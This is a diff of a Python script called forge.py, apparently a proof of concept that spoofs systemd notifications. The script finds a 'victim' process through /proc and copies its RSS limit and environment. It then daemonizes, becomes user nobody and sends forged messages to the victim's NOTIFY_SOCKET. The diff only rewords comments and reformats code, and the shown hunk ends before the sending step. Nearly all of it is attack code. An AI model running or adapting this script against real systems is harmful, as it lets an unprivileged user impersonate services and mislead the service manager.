@@ -1,8 +1,8 @@
-"""forge.py VICTIM MESSAGE...: an unprivileged orphan that shows the tracking limit and environment of another service.
+"""forge.py VICTIM MESSAGE...: an unprivileged orphan with the tracking limit and environment of another service.
 
-Waits for a process whose last argument is VICTIM, takes over its hard limit of RSS and its variables, loses its parent
-and its session, becomes nobody, and sends each MESSAGE to the NOTIFY_SOCKET of the victim (/proc/net/unix shows the
-paths to everybody). In a message PID is its own pid.
+It waits for a process whose last argument is VICTIM, takes over that process's hard limit of RSS and its variables,
+leaves its parent and its session, becomes the user nobody, and sends each MESSAGE to the NOTIFY_SOCKET of the victim
+(/proc/net/unix shows the paths to every user). PID in a message stands for its own pid.
 """
 
 import os
@@ -13,13 +13,18 @@ import time
 
 
 def victim() -> tuple[int, bytes]:
-    """The hard limit and the environment of the victim, once it is there."""
+    """The hard limit and the environment of the victim, once it is running."""
     while True:
         for pid in filter(str.isdigit, os.listdir("/proc")):
             try:
                 with open(f"/proc/{pid}/cmdline", "rb") as file:
-                    words = file.read().split(b"\0")[:-1]
-                if int(pid) == os.getpid() or not words or words[-1] != sys.argv[1].encode() or b"forge.py" in words[0]:
+                    arguments = file.read().split(b"\0")[:-1]
+                if (
+                    int(pid) == os.getpid()
+                    or not arguments
+                    or arguments[-1] != sys.argv[1].encode()
+                    or b"forge.py" in arguments[0]
+                ):
                     continue
                 with open(f"/proc/{pid}/limits", encoding="ascii") as file:
                     [line] = [line for line in file if line.startswith("Max resident set")]
@@ -32,7 +37,7 @@ def victim() -> tuple[int, bytes]:
 
 limit, environment = victim()
 if os.fork():
-    time.sleep(1000)  # the service lives on beside the orphan
+    time.sleep(1000)  # the service keeps running beside the orphan
 if os.fork():
     os._exit(0)
 os.setsid()
